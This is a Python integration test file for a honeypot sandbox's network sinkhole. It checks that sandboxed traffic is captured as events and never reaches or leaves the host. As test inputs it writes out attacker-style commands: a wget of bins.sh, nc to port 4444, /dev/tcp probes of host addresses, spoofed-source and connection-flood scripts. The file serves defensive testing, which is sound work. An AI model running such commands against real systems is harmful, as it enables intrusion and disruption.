"""The network sinkhole against the real engine: a sandbox sees a network, every packet reaches
the sinkhole and becomes an event of its session, and nothing reaches the host or leaves it.

The addresses are documentation ranges (RFC 5737) and the host's own; the host side is watched
by a listener of ours on every host address and by nftables counters on the host (a table of our
own, counting only, removed afterwards).
"""

from __future__ import annotations

import asyncio
import base64
import ipaddress
import json
import os
import random
import socket
import subprocess
import tarfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from sandtrap.cli import cli
from sandtrap.config import parse_config
from sandtrap.network import hostwall
from sandtrap.network.deploy import SinkholeError, ensure_network
from sandtrap.network.image import build_sinkhole
from sandtrap.sandbox.docker import Engine
from sandtrap.sandbox.sinknet import addresses, bridge_name, container_name, network_name
from tests.conftest import IMAGE
from tests.docker.service import (
    SSH_OPTS,
    RunningService,
    free_subnet,
    remove_sensor_containers,
    service_config,
)

pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("docker_engine")]

SINKHOLE_IMAGE = "sandtrap/sinkhole:12"
# A DNS query straight to a public resolver, as malware with its own resolver sends it.
DIRECT_DNS = (
    'python3 -c "'
    "import socket, struct; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
    "s.settimeout(3); q = struct.pack('!6H', 7, 256, 1, 0, 0, 0) + b'\\x03dga\\x07example"
    "\\x00' + struct.pack('!HH', 1, 1); s.sendto(q, ('8.8.8.8', 53)); "
    "print('direct-dns', s.recvfrom(512)[1])\""
)


def _wait_events(
    service: RunningService, eventid: str, predicate: Any, timeout: float = 20
) -> list[dict[str, Any]]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        found = [e for e in service.events(eventid) if predicate(e)]
        if found:
            return found
        time.sleep(0.2)
    raise AssertionError(f"no {eventid} event matched in {timeout}s: {service.events(eventid)}")


@pytest.fixture(scope="module")
def sinkholed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningService]:
    build_sinkhole(SINKHOLE_IMAGE)
    subnet = free_subnet()
    config = service_config(
        tmp_path_factory.mktemp("var"),
        pool={"size": 2, "max_sandboxes": 6},
        sandbox={
            "network": "sinkhole",
            "sinkhole": {
                "image": SINKHOLE_IMAGE,
                "subnet": subnet,
                "flood_report_interval_seconds": 2,
            },
        },
    )
    running = RunningService(config).start()
    try:
        running.wait_warm()
        yield running
    finally:
        running.stop()
        remove_sensor_containers(config.sensor)
        subprocess.run(
            ["docker", "network", "rm", network_name(config.sensor)],
            capture_output=True,
            check=False,
        )


def _session_of(service: RunningService, marker: str) -> str:
    found = _wait_events(service, "session.exec", lambda e: marker in e["input"])
    return str(found[-1]["session"])


def test_attacker_commands_behave_like_a_network_and_become_events(
    sinkholed: RunningService,
) -> None:
    proc = sinkholed.ssh(
        "wget -q -O- http://203.0.113.7/bins.sh; echo wget=$?; "
        "curl -s https://example.com/x; echo curl=$?; "
        "getent hosts c2.example; echo getent=$?; "
        "echo hello | timeout 3 nc 198.51.100.9 4444; echo nc=$?; "
        "ip route; cat /etc/resolv.conf; ip -o addr show eth0; " + DIRECT_DNS
    )
    out = proc.stdout.decode()
    assert "#!/bin/sh" in out and "wget=0" in out, out
    assert "curl=35" in out, out  # the TLS handshake fails, as with a server it shares nothing with
    assert "getent=0" in out and "c2.example" in out, out
    assert "default via" in out and "nameserver" in out and "127.0.0.11" not in out, out
    assert " inet6 " not in out, out
    assert "direct-dns ('8.8.8.8', 53)" in out, out  # answered from the address asked
    session = _session_of(sinkholed, "wget -q -O- http://203.0.113.7/bins.sh")
    mine = lambda e: e["session"] == session  # noqa: E731
    http = _wait_events(sinkholed, "network.http", mine)[0]
    assert http["url"] == "http://203.0.113.7/bins.sh" and http["dst_ip"] == "203.0.113.7"
    assert http["user_agent"].startswith("Wget/") and http["src_ip"] == "127.0.0.1"
    assert http["container_id"]
    tls = _wait_events(sinkholed, "network.tls", mine)[0]
    assert tls["sni"] == "example.com" and tls["dst_port"] == 443 and len(tls["ja3"]) == 32
    _wait_events(sinkholed, "network.dns", lambda e: mine(e) and e["query"] == "c2.example")
    _wait_events(
        sinkholed,
        "network.connect",
        lambda e: mine(e) and e["dst_ip"] == "198.51.100.9" and e["dst_port"] == 4444,
    )
    data = _wait_events(sinkholed, "network.data", lambda e: mine(e) and e["dst_port"] == 4444)
    assert data[0]["first_bytes"] == "aGVsbG8K"  # "hello\n"
    _analyst_sees_the_network(sinkholed, session)


def _analyst_sees_the_network(service: RunningService, session: str) -> None:
    """`sessions show` and the export bundle carry the session's network events."""
    config = service.config.storage.data_dir / "analyst.yaml"
    data_dir = service.config.storage.data_dir
    config.write_text(f"sensor: {service.config.sensor}\nstorage:\n  data_dir: {data_dir}\n")
    time.sleep(1)  # the index's writer commits in batches
    shown = CliRunner().invoke(
        cli, ["sessions", "show", "--config", str(config), session, "--json"]
    )
    assert shown.exit_code == 0, shown.output
    details = [row["detail"] for row in json.loads(shown.stdout)["network"]]
    assert "GET http://203.0.113.7/bins.sh" in details and "A c2.example" in details, details
    bundle = service.config.storage.data_dir / "bundle.tar.gz"
    done = CliRunner().invoke(
        cli, ["export", "--config", str(config), session, "-o", str(bundle), "--no-engine"]
    )
    assert done.exit_code == 0, done.output
    with tarfile.open(bundle) as archive:
        names = archive.getnames()
        member = next(n for n in names if n.endswith("events.jsonl"))
        handle = archive.extractfile(member)
        assert handle is not None
        ids = {json.loads(line)["eventid"] for line in handle.read().splitlines()}
    assert {"network.http", "network.tls", "network.dns", "network.connect"} <= ids, ids


def test_the_sinkhole_itself_reaches_nothing(sinkholed: RunningService) -> None:
    """Its service runs as nobody without capabilities; even so, no route and output dropped."""
    name = container_name(sinkholed.config.sensor)
    top = subprocess.run(["docker", "top", name], capture_output=True, text=True, check=True).stdout
    users = {line.split()[0] for line in top.splitlines()[1:]}
    assert users <= {"nobody", "65533"} and "root" not in users, top
    targets = [*_host_addresses(), "172.17.0.1", "203.0.113.7"]
    targets.append(addresses(sinkholed.config.sandbox).gateway)
    script = (
        f"import socket\nfor ip in {targets!r}:\n"
        "    s = socket.socket(); s.settimeout(2)\n"
        "    try:\n        s.connect((ip, 22)); print(ip, 'connected')\n"
        "    except OSError as e:\n        print(ip, type(e).__name__, e.errno)\n"
    )
    out = subprocess.run(
        ["docker", "exec", "--user", "65534", name, "python3", "-c", script],
        capture_output=True, text=True, check=True, timeout=60,
    ).stdout  # fmt: skip
    assert "connected" not in out, out
    status = subprocess.run(
        ["docker", "exec", name, "sh", "-c", "grep -E '^(Uid|CapEff)' /proc/1/status; ip route"],
        capture_output=True, text=True, check=True,
    ).stdout  # fmt: skip
    assert "CapEff:\t0000000000000000" in status and "default" not in status, status


def _host_addresses() -> list[str]:
    out = subprocess.run(
        ["ip", "-4", "-o", "addr", "show"], capture_output=True, text=True, check=True
    ).stdout
    return sorted({line.split()[3].split("/")[0] for line in out.splitlines()} - {"127.0.0.1"})


class _HostListener:
    """A TCP listener on every host address that says a secret and counts who came."""

    SECRET = b"HOST-LISTENER-REACHED\n"

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("0.0.0.0", 0))  # noqa: S104 - the point: reachable on every host address
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.peers: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, peer = self.sock.accept()
            except TimeoutError:
                continue
            self.peers.append(peer[0])
            with conn:
                conn.sendall(self.SECRET)

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.sock.close()


def _nft(*args: str, stdin: str | None = None) -> str:
    return subprocess.run(
        ["nft", *args], input=stdin, capture_output=True, text=True, check=True, timeout=10
    ).stdout


def test_nothing_reaches_the_host_or_leaves_it(sinkholed: RunningService) -> None:
    sensor = sinkholed.config.sensor
    subnet = sinkholed.config.sandbox.sinkhole.subnet
    bridge = bridge_name(sensor)
    table = f"sandtrap_sinktest_{random.randint(0, 1 << 30)}"
    # Counting only, in our own table: packets from the sandboxes' subnet that the host receives
    # itself, or routes out of any interface other than the sinkhole's bridge; and, to show the
    # counters see the sandboxes' packets at all, those bridged to the sinkhole (br_netfilter).
    _nft(
        "-f",
        "-",
        stdin=f"""
table inet {table} {{
  chain c_in {{ type filter hook input priority -300; policy accept;
    ip saddr {subnet} counter
  }}
  chain c_post {{ type filter hook postrouting priority -300; policy accept;
    ip saddr {subnet} oifname != "{bridge}" counter
  }}
  chain c_fwd {{ type filter hook forward priority -300; policy accept;
    ip saddr {subnet} oifname != "{bridge}" counter
    ip saddr {subnet} oifname "{bridge}" counter
  }}
}}""",
    )
    listener = _HostListener()
    try:
        targets = [*_host_addresses(), "172.17.0.1", "10.0.0.1", "192.168.0.1"]
        gateway = str(sinkholed.config.sandbox.sinkhole.subnet).rsplit(".", 2)[0] + ".0.1"
        script = "; ".join(
            f"timeout 1 bash -c 'exec 3<>/dev/tcp/{ip}/{listener.port}; head -c 40 <&3' "
            f"&& echo reached-{ip}"
            for ip in [*targets, gateway]
        )
        script += "; ping -c 1 -W 1 8.8.8.8 >/dev/null 2>&1; echo x > /dev/udp/203.0.113.9/9999"
        script += "; python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'"
        script += " 2>&1 | tail -1; echo ok"
        for user in ("root", "oracle"):
            proc = sinkholed.ssh(script, user=user, password="x" if user == "oracle" else "123456")
            out = proc.stdout.decode()
            assert _HostListener.SECRET.decode().strip() not in out, out
            assert "PermissionError" in out and out.rstrip().endswith("ok"), out
        time.sleep(1)
        assert listener.peers == []
        counters = json.loads(_nft("-j", "list", "table", "inet", table))
        packets = [
            item["counter"]["packets"]
            for rule in counters["nftables"]
            if "rule" in rule
            for item in rule["rule"]["expr"]
            if "counter" in item
        ]
        assert packets[:3] == [0, 0, 0] and packets[3] > 0, counters
        session = _session_of(sinkholed, "exec 3<>/dev/tcp/")
        caught = {
            e["dst_ip"]
            for e in sinkholed.events("network.connect")
            if e["session"] == session and e["dst_port"] == listener.port
        }
        assert set(targets) <= caught
    finally:
        listener.close()
        subprocess.run(["nft", "delete", "table", "inet", table], capture_output=True, check=False)


def _sandbox_ip(sensor: str, session: str) -> str:
    out = subprocess.run(
        ["docker", "ps", "--filter", f"label=sandtrap.sensor={sensor}", "--filter",
         f"name=sandtrap-s-{session}", "--format", "{{.ID}}"],
        capture_output=True, text=True, check=True,
    ).stdout.split()  # fmt: skip
    inspected = subprocess.run(
        ["docker", "inspect", "-f", "{{json .NetworkSettings.Networks}}", out[0]],
        capture_output=True, text=True, check=True,
    ).stdout  # fmt: skip
    return str(next(iter(json.loads(inspected).values()))["IPAddress"])


def test_sandboxes_cannot_reach_each_other(sinkholed: RunningService) -> None:
    """One bridge, but no broadcast ARP from sandboxes: they resolve only the gateway."""
    argv = ["sshpass", "-p", "123456", "ssh", "-p", str(sinkholed.port)]
    server = subprocess.Popen(
        [*argv, *SSH_OPTS, "root@127.0.0.1", "python3 -m http.server 8000 & sleep 25; echo a-done"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip
    try:
        session_a = _session_of(sinkholed, "python3 -m http.server 8000")
        address = _sandbox_ip(sinkholed.config.sensor, session_a)
        time.sleep(1)
        proc = sinkholed.ssh(
            f"curl -s -m 3 http://{address}:8000/ >/dev/null; echo peer=$?; "
            "curl -s -m 3 -o /dev/null http://203.0.113.7/; echo sink=$?; ip neigh",
            # Another address: logins of one address share a sandbox (pool.share_per_source).
            extra=["-b", "127.0.0.3"],
        )
        out = proc.stdout.decode()
        assert "sink=0" in out, out
        assert "peer=0" not in out and "peer=" in out, out
        assert f"{address} dev eth0 FAILED" in out or f"{address} dev eth0 INCOMPLETE" in out, out
    finally:
        server.kill()
        server.communicate(timeout=10)


DOCKER_DNS = r"""
import socket, sys
name = sys.argv[1]
labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x00\x01\x00\x01"
def ports(proto):  # sockets of the resolver on 127.0.0.11 (0B00007F), as ss shows them
    with open("/proc/net/" + proto) as f:
        return sorted({int(l.split()[1].split(":")[1], 16) for l in list(f)[1:]
                       if l.split()[1].startswith("0B00007F:")})
def ask(proto, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if proto == "udp" else socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(("127.0.0.11", port))
        if proto == "udp":
            s.send(query); s.recv(512)
        return "answered"
    except OSError as e:
        return type(e).__name__
for proto in ("udp", "tcp"):
    for port in [53] + ports(proto):
        print(proto, "port-53" if port == 53 else "own-port", ask(proto, port))
own = socket.socket(); own.bind(("127.0.0.11", 5000)); own.listen(1)
print("user-service", ask("tcp", 5000))
"""


def _resolver_closed(container: str) -> bool:
    pid = _inspect(container, "{{.State.Pid}}")
    check = ["nsenter", "-t", pid, "-n", "iptables", "-w", "10", "-t", "nat", "-C", "OUTPUT",
             "-d", "127.0.0.11/32", "-j", "RETURN"]  # fmt: skip
    return subprocess.run(check, capture_output=True, check=False).returncode == 0


def test_dockers_resolver_is_closed_in_every_sandbox(sinkholed: RunningService) -> None:
    """127.0.0.11 (Docker's resolver: it names every container on the network, and is a Docker
    tell itself) answers like a closed port on port 53 and on the resolver's own ports, while a
    service of the sandbox's own on that address works as on any server; root cannot reopen it
    (no NET_ADMIN); and a sandbox restarted outside the gate is closed again by the keeper."""
    sensor = sinkholed.config.sensor
    proc = sinkholed.ssh(
        f"python3 -c '{DOCKER_DNS}' {container_name(sensor)}; iptables -F 2>&1 | tail -1; "
        f"python3 -c '{DOCKER_DNS}' {container_name(sensor)}"
    )
    out = proc.stdout.decode()
    assert not [line for line in out.splitlines() if "port" in line and "answered" in line], out
    for proto in ("udp", "tcp"):
        assert out.count(f"{proto} port-53 ConnectionRefusedError") == 2, out
        assert out.count(f"{proto} own-port ConnectionRefusedError") == 2, out  # found in /proc
    assert out.count("user-service answered") == 2, out
    idle = subprocess.run(
        ["docker", "ps", "-q", "--no-trunc", "--filter", f"label=sandtrap.sensor={sensor}",
         "--filter", "name=sandtrap-pool-"],
        capture_output=True, text=True, check=True,
    ).stdout.split()  # fmt: skip
    assert idle and _resolver_closed(idle[0])
    subprocess.run(["docker", "restart", "-t", "1", idle[0]], check=True, capture_output=True)
    deadline = time.monotonic() + 15
    while not _resolver_closed(idle[0]) and time.monotonic() < deadline:
        time.sleep(0.5)
    assert _resolver_closed(idle[0]), "the keeper did not close a restarted sandbox's resolver"


def test_broadcast_and_multicast_reach_no_host_service(sinkholed: RunningService) -> None:
    """A sandbox's datagrams to 255.255.255.255, 224.0.0.1, its subnet's broadcast or a host
    address never reach a UDP service on the host (the bridge's host side has no address, but the
    host took broadcasts from it until the host firewall rules, network/hostwall.py)."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("0.0.0.0", 0))  # noqa: S104 - the point: a host service on every address
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    bridge = bridge_name(sinkholed.config.sensor)
    try:
        for tool, chain, match in hostwall.rules(bridge):
            present = subprocess.run([tool, "-w", "10", "-C", chain, *match], capture_output=True)
            assert present.returncode == 0, (tool, chain, present.stderr)
        broadcast = ipaddress.IPv4Network(
            sinkholed.config.sandbox.sinkhole.subnet
        ).broadcast_address
        hosts = ["255.255.255.255", "224.0.0.1", str(broadcast), *_host_addresses()]
        script = (
            "import socket\n"
            f"for host in {hosts!r}:\n"
            "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\n"
            "    try:\n"
            f"        s.sendto(b'udp-to-host', (host, {port})); print(host, 'sent')\n"
            "    except OSError as e:\n        print(host, e.errno)\n"
        )
        for user, password in (("root", "123456"), ("oracle", "x")):
            proc = sinkholed.ssh(f'python3 -c "{script}"', user=user, password=password)
            assert b"255.255.255.255 sent" in proc.stdout, proc.stdout + proc.stderr
        received = []
        deadline = time.monotonic() + 2
        while time.monotonic() < deadline:
            try:
                received.append(listener.recvfrom(64))
            except TimeoutError:
                continue
        assert received == [], received
    finally:
        listener.close()


def _inspect(container: str, template: str) -> str:
    return subprocess.run(["docker", "inspect", "-f", template, container], capture_output=True,
                          text=True, check=True).stdout.strip()  # fmt: skip


def _bridge_ports(bridge: str) -> dict[int, str]:
    ports = Path("/sys/class/net", bridge, "brif")
    return {
        int(Path("/sys/class/net", name, "ifindex").read_text()):
            Path("/sys/class/net", name, "brport", "isolated").read_text().strip()
        for name in os.listdir(ports)
    }  # fmt: skip


def _host_port_of(container: str) -> int:
    """The host-side ifindex of a container's eth0 (its iflink, read through its root)."""
    pid = _inspect(container, "{{.State.Pid}}")
    return int(Path(f"/proc/{pid}/root/sys/class/net/eth0/iflink").read_text())


def test_the_bridge_isolates_sandboxes_even_past_arp(sinkholed: RunningService) -> None:
    """Host-side defence under the ARP isolation (network/isolate.py): every sandbox port of the
    bridge is `isolated`, the sinkhole's is not; a sandbox given its peer's MAC by hand (as if it
    had beaten ARP) still cannot reach it, and still reaches the sinkhole."""
    argv = ["sshpass", "-p", "123456", "ssh", "-p", str(sinkholed.port)]
    server = subprocess.Popen(
        [*argv, *SSH_OPTS, "-b", "127.0.0.4", "root@127.0.0.1",
         "python3 -m http.server 8001 & sleep 25; echo a-done"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip
    try:
        session = _session_of(sinkholed, "python3 -m http.server 8001")
        sensor = sinkholed.config.sensor
        deadline = time.monotonic() + 60
        while True:  # the session's sandbox and another (the pool warms a replacement)
            ids = subprocess.run(
                ["docker", "ps", "-q", "--no-trunc", "--filter", f"label=sandtrap.sensor={sensor}",
                 "--filter", "label=sandtrap.role=sandbox"],
                capture_output=True, text=True, check=True,
            ).stdout.split()  # fmt: skip
            if len(ids) >= 2 or time.monotonic() > deadline:
                break
            time.sleep(0.5)
        names = {cid: _inspect(cid, "{{.Name}}") for cid in ids}
        server_id = next(cid for cid, name in names.items() if session in name)
        other_id = next(cid for cid in ids if cid != server_id)
        address = _sandbox_ip(sensor, session)
        mac = _inspect(server_id, "{{range .NetworkSettings.Networks}}{{.MacAddress}}{{end}}")
        # Sealed by the gate as it started them (the other one may be a replacement the pool is
        # only now starting, hence a second's grace; the seal itself: the resolver test).
        deadline = time.monotonic() + 1
        while True:
            ports = _bridge_ports(bridge_name(sensor))
            sink = _host_port_of(container_name(sensor))
            mine = [_host_port_of(cid) for cid in (server_id, other_id)]
            if all(ports.get(i) == "1" for i in mine) or time.monotonic() > deadline:
                break
            time.sleep(0.05)
        assert ports[sink] == "0", (ports, sink)
        assert [ports.get(i) for i in mine] == ["1", "1"], (ports, mine)
        assert all(v == "1" for i, v in ports.items() if i != sink), ports
        pid = _inspect(other_id, "{{.State.Pid}}")
        nsenter = ["nsenter", "-t", pid, "-n"]
        subprocess.run([*nsenter, "ip", "neigh", "replace", address, "lladdr", mac, "dev", "eth0",
                        "nud", "permanent"], check=True, capture_output=True)  # fmt: skip
        probe = (
            "import socket, sys\n"
            "for target in sys.argv[1:]:\n"
            "    s = socket.socket(); s.settimeout(3)\n"
            "    port = 8001 if target == sys.argv[1] else 80\n"
            "    try:\n        s.connect((target, port)); r = 'connected'\n"
            "    except OSError as e:\n        r = type(e).__name__\n"
            "    print(target, r)\n"
        )
        out = subprocess.run(
            [*nsenter, "python3", "-c", probe, address, "203.0.113.7"],
            capture_output=True, text=True, check=True, timeout=30,
        ).stdout  # fmt: skip
        assert f"{address} connected" not in out and f"{address} " in out, out
        assert "203.0.113.7 connected" in out, out
    finally:
        server.kill()
        server.communicate(timeout=10)


def test_verifier_passes_in_sinkhole_mode(tmp_path: Path) -> None:
    """`sandtrap verify-security` with `sandbox.network: sinkhole`: every row passes, as root and
    as the login user, including the host listeners on every host address never being reached."""
    build_sinkhole(SINKHOLE_IMAGE)
    sensor = f"verify-sink-{random.randint(0, 1 << 30):x}"
    subnet = free_subnet()
    config = tmp_path / "config.yaml"
    config.write_text(
        f"sensor: {sensor}\nstorage:\n  data_dir: {tmp_path / 'var'}\nsandbox:\n  image: {IMAGE}\n"
        f"  network: sinkhole\n  sinkhole:\n    image: {SINKHOLE_IMAGE}\n    subnet: {subnet}\n"
    )
    try:
        result = CliRunner().invoke(
            cli, ["verify-security", "--config", str(config), "--runtime", "runc", "--json"]
        )
    finally:
        remove_sensor_containers(sensor)
        subprocess.run(["docker", "network", "rm", network_name(sensor)], capture_output=True,
                       check=False)  # fmt: skip
    rows = [json.loads(line) for line in result.stdout.splitlines() if line.startswith("{")]
    failed = [row for row in rows if row["status"] == "FAIL"]
    assert result.exit_code == 0 and not failed, (failed, result.stderr[-3000:])
    checks = {(row["check"], row["who"]): row for row in rows}
    for who in ("root", "user"):
        for name in (
            "network: interfaces", "network: routes", "network: IPv6",
            "network: DNS answered by the sinkhole", "network: TCP to a documentation address",
            "network: Docker's resolver 127.0.0.11",
            "network: TCP to another sandbox", "network: raw ICMP socket",
            "network: packet socket",
        ):  # fmt: skip
            assert checks[(name, who)]["status"] == "PASS", checks.get((name, who))
    assert checks[("network: host listeners reached", "host")]["status"] == "PASS"
    # The sinkhole's own reach, probed as its service's user (verify/sinkself.py).
    sink_rows = [row for row in rows if row["who"] == "sinkhole"]
    assert len(sink_rows) == 4 and {row["status"] for row in sink_rows} == {"PASS"}, sink_rows
    reach = checks[("sinkhole: TCP to the host, the bridge gateway, a documentation address",
                    "sinkhole")]["observed"]  # fmt: skip
    assert "203.0.113.7:80" in reach and "docker bridge gateway" in reach, reach
    assert checks[("sinkhole: bridge ports isolated", "host")]["status"] == "PASS", rows
    udp = checks[("network: UDP to the host (broadcast, multicast, unicast)", "host")]
    assert udp["status"] == "PASS" and "255.255.255.255" in udp["observed"], udp
    peer = checks[("network: TCP to another sandbox", "root")]["observed"]
    assert peer in ("EHOSTUNREACH", "timeout"), peer


# Root's tricks inside a sandbox: spoofed sources, IPv6, oversized datagrams, a connection flood.
TRICKS = r"""
import errno, socket
def err(f):
    try:
        return f() or "ok"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
def transparent():
    socket.socket().setsockopt(socket.SOL_IP, 19, 1)
def freebind():
    s = socket.socket(); s.setsockopt(socket.SOL_IP, 15, 1); s.settimeout(2)
    s.bind(("%(spoof)s", 0)); s.connect(("203.0.113.7", 80))
    return "connected-from-" + s.getsockname()[0]
def six():
    s = socket.socket(socket.AF_INET6); s.settimeout(2); s.connect(("fe80::1%%eth0", 80))
def big():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"B" * 65000, ("203.0.113.7", 9))
def flood():
    n = 0
    for i in range(1500):
        try:
            socket.create_connection(("198.51.100.%%d" %% (i %% 200 + 1), 7000), 2).close(); n += 1
        except OSError:
            pass
    return "flood-%%d" %% n
for name, f in (("transparent", transparent), ("freebind", freebind), ("six", six),
                ("big", big), ("flood", flood)):
    print(name, err(f))
"""


def test_root_tricks_get_nowhere(sinkholed: RunningService) -> None:
    spoof = addresses(sinkholed.config.sandbox).ip_range.rsplit(".", 2)[0] + ".1.77"
    script = TRICKS % {"spoof": spoof}
    proc = sinkholed.ssh(f"python3 -c '{script}'; echo tricks-done")
    out = dict(line.split(" ", 1) for line in proc.stdout.decode().splitlines() if " " in line)
    assert out["transparent"] == "EPERM", out  # no IP_TRANSPARENT: no foreign source address
    assert not out["freebind"].startswith("connected"), out
    assert out["six"] in ("ENETUNREACH", "EADDRNOTAVAIL", "EINVAL", "EAFNOSUPPORT"), out
    assert out["big"] == "ok", out
    assert out["flood"].startswith("flood-"), out
    session = _session_of(sinkholed, "tricks-done")
    mine = lambda e: e["session"] == session  # noqa: E731
    big = _wait_events(sinkholed, "network.udp", lambda e: mine(e) and e["dst_port"] == 9)
    assert big[0]["dst_ip"] == "203.0.113.7" and len(base64.b64decode(big[0]["first_bytes"])) == 512
    flood = _wait_events(sinkholed, "network.flood", mine, timeout=30)
    connects = [e for e in sinkholed.events("network.connect") if mine(e)]
    burst = sinkholed.config.sandbox.sinkhole.events_burst
    assert len(connects) < 1500 and sum(e["count"] for e in flood) > 0
    assert len(connects) + sum(e["count"] for e in flood) >= 1000, (len(connects), flood)
    assert len(connects) <= burst + 200, len(connects)
    # The sinkhole still serves everyone after the flood.
    again = sinkholed.ssh("wget -q -O- http://203.0.113.7/after.sh")
    assert b"#!/bin/sh" in again.stdout


def test_a_taken_subnet_is_named_and_nothing_is_made() -> None:
    """Two sensors whose subnets collide (or a range another network holds): the second does not
    start, and says what to change."""
    subnet = free_subnet()
    taken = f"sttest-taken-{random.randint(0, 1 << 30):x}"
    subprocess.run(["docker", "network", "create", "--subnet", subnet, taken], check=True,
                   capture_output=True)  # fmt: skip
    sensor = f"test-overlap-{random.randint(0, 1 << 30):x}"
    config = parse_config({"sensor": sensor, "sandbox": {"sinkhole": {"subnet": subnet}}})

    async def attempt() -> None:
        engine = Engine(config.sandbox.docker_url)
        try:
            await ensure_network(engine, config)
        finally:
            await engine.close()

    try:
        with pytest.raises(SinkholeError, match="overlaps another Docker network"):
            asyncio.run(attempt())
        listed = subprocess.run(["docker", "network", "ls", "-q", "--filter",
                                 f"name={network_name(sensor)}"], capture_output=True, text=True,
                                check=True).stdout  # fmt: skip
        assert listed.strip() == ""
    finally:
        subprocess.run(["docker", "network", "rm", taken], capture_output=True, check=False)
